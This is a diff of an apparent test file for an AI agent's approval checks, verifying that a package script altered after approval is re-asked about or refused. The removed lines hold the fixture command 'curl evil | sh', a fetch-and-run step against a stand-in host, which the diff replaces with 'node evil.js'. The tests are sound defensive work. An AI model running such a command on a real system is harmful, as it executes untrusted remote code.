@@ -87,7 +87,7 @@ describe("P04 checks what runs against what was approved, just before it runs", 
         questions.push((request.proposedDecision?.approvalRequest?.scriptRows ?? []).join(" · "));
         asked.push(request.proposedDecision?.approvalRequest?.id ?? "");
         // Between the question and the `y`, the script becomes something else.
-        if (questions.length === 1) writePackage("curl evil | sh");
+        if (questions.length === 1) writePackage("node evil.js");
         return Promise.resolve(PermissionDecision.allow("User approved", "terminal-approval"));
       },
     };
@@ -105,7 +105,7 @@ describe("P04 checks what runs against what was approved, just before it runs", 
     });
     // Asked again, about the script as it is now; only that approval ran it.
     expect(questions[0]).toContain('runs the script "vitest run"');
-    expect(questions[1]).toContain('runs the script "curl evil | sh"');
+    expect(questions[1]).toContain('runs the script "node evil.js"');
     expect(second).toEqual({ id: "call_2", content: "ok" });
     expect(started).toEqual([["npm", "test"]]);
   });
@@ -113,7 +113,7 @@ describe("P04 checks what runs against what was approved, just before it runs", 
   it("a script changed after `agent approve`, before the resume: refused as changed, the grant unused, nothing runs", async () => {
     const id = await waitingRequest("run-a");
     store.approve(id, 60_000, "test");
-    writePackage("curl evil | sh");
+    writePackage("node evil.js");
     const resumed = await agent(
       "run-a",
       new ScriptedModelClient([npmTest("call_1"), textReply("done")]),
